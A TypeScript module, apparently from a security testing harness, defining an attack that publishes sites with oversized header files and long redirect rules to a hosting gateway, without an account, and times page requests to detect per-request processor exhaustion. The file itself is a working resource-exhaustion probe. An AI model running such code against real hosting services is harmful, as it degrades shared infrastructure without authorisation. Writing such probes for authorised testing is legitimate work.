import { performance } from 'node:perf_hooks';
import { type Answer, ask, file, publishTo } from '../fixtures/clouds/client.ts';
import type { Attack, Target } from './attack.ts';

/** As many headers as a `_headers` file may have: 99 kB, and every path matches. */
const manyHeaders = Array.from({ length: 100 }, (_, block) => {
  const header = (__: unknown, at: number) => `  x-${block}-${at}: 12345678\n`;
  return `/:a${block}\n${Array.from({ length: 50 }, header).join('')}`;
}).join('');

/** Each rule would repeat a visitor's address some hundred times, and leads nowhere. */
const manyTargets = `/* /${':splat/'.repeat(280)} 200\n`.repeat(100);

const page = file('index.html', '<h1>Rules');
const longPath = `/${'a/'.repeat(1900)}b`;

const sites = [
  { what: 'no rules', files: [page], path: '/page' },
  { what: '99 kB of headers', files: [page, file('_headers', manyHeaders)], path: '/page' },
  {
    what: 'a hundred long targets',
    files: [page, file('_redirects', manyTargets)],
    path: longPath,
  },
] as const;

/** As many in any time: the first views of each environment of the gate compile code, whatever the rules are. */
const rounds = 20;

/** Publishes rules that are costly to apply, without an account, and asks for pages. */
export const tireTheGate: Attack = {
  title: 'The rules of a site cost much processor time at each request',
  async run({ baseUrl }: Target) {
    const published: { url: string; what: string; times: number[] }[] = [];
    for (const { what, files, path } of sites) {
      const answer = await publishTo(baseUrl, [...files]);
      if (answer.status !== 200) throw new Error(`not published: ${answer.text}`);
      published.push({ url: answer.json.data.url + path, what, times: [] });
    }
    for (const { url } of published) await ask(url);
    let requests = 2 * sites.length;
    for (let round = 0; round < rounds; round += 1) {
      for (const { url, times } of published) {
        const { ms, status } = await timed(() => ask(url));
        if (status >= 500) throw new Error(`${url} is answered ${status}`);
        times.push(ms);
        requests += 1;
      }
    }
    const quickest = published.map(({ what, times }) => ({ what, ms: quickestOf(times) }));
    const plain = quickest[0]?.ms ?? 0;
    return {
      requests,
      observed: quickest.map(({ what, ms }) => `a view of a site with ${what} takes ${ms} ms`),
      gained: quickest
        .filter(({ ms }) => ms > 2 * plain + 50)
        .map(({ what, ms }) => `${what} make a view take ${ms} ms in place of ${plain} ms`),
    };
  },
};

async function timed(send: () => Promise<Answer>): Promise<{ ms: number; status: number }> {
  const startedAt = performance.now();
  const { status } = await send();
  return { ms: performance.now() - startedAt, status };
}

/**
 * In whole milliseconds. What a view costs, it costs each time; what the machine does besides, it does not
 * during all of them.
 */
function quickestOf(times: readonly number[]): number {
  return Math.round(Math.min(...times));
}
